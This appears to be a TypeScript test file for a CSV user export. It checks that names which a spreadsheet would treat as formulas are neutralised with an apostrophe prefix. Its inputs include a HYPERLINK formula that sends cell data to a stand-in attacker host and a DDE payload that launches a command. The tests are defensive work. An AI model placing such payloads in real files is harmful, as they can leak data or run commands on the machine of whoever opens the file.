/** Cells that a spreadsheet does not run. */

import assert from "node:assert/strict";
import { test } from "node:test";
import { newId } from "../../src/ids.ts";
import { HEAD, lineOfUser } from "../../src/users/csv.ts";
import type { User } from "../../src/users/model.ts";

const user = (fullName: string): User => ({
  id: newId(),
  email: "ann@example.com",
  fullName,
  role: "user",
  isActive: true,
  emailVerified: false,
  createdAt: new Date("2026-01-31T12:00:00.5Z"),
});

/** Returns the name of an account as a spreadsheet reads it. */
const cellOf = (name: string): string => {
  const [, cell = ""] = /^"[^"]*","[^"]*","((?:[^"]|"")*)",/.exec(lineOfUser(user(name))) ?? [];
  return cell.replaceAll('""', '"');
};

test("no cell is a formula", () => {
  const formulas = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1",
  ];
  for (const name of formulas) {
    assert.equal(cellOf(name), `'${name}`);
  }
});

test("no cell is a formula with any separator", () => {
  for (const separator of [";", ",", "|", "\t", "\r", "\n", "\uff0c", "\uff1b", '; "']) {
    const name = `x${separator}=1+1${separator}@SUM(A1)`;
    assert.equal(cellOf(name), `x${separator}'=1+1${separator}'@SUM(A1)`);
  }
});

test("every cell is quoted", () => {
  const { id } = user("");
  assert.equal(
    HEAD,
    '"id","email","full_name","role","is_active","email_verified","created_at"\r\n',
  );
  assert.equal(
    lineOfUser({ ...user('Zo\u00eb "Z"'), id }),
    `"${id}","ann@example.com","Zo\u00eb ""Z""","user","true","false","2026-01-31T12:00:00.500Z"\r\n`,
  );
});

test("what is no formula is kept to the letter", () => {
  for (const name of [
    'She said "hi", twice',
    "a\r\nb",
    "a=b",
    "Anne -Marie; x+y",
    "'quoted'",
    "1,2",
    "\u{1f512}",
    "\u202e",
  ]) {
    assert.equal(cellOf(name), name);
  }
});

test("searching a name takes time linear in its length", () => {
  const begun = performance.now();
  lineOfUser(user(" ".repeat(200_000)));
  assert.ok(performance.now() - begun < 2_000);
});
